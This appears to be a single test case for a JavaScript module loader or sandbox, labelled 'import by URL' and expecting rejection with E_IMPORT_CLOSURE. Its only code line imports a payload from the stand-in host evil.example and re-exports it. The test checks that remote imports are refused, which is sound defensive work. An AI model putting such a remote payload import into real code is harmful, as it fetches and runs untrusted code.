// case: X09 import by URL
// context: N
// expect: reject E_IMPORT_CLOSURE
import payload from 'https://evil.example/payload.js';
export const result = payload;
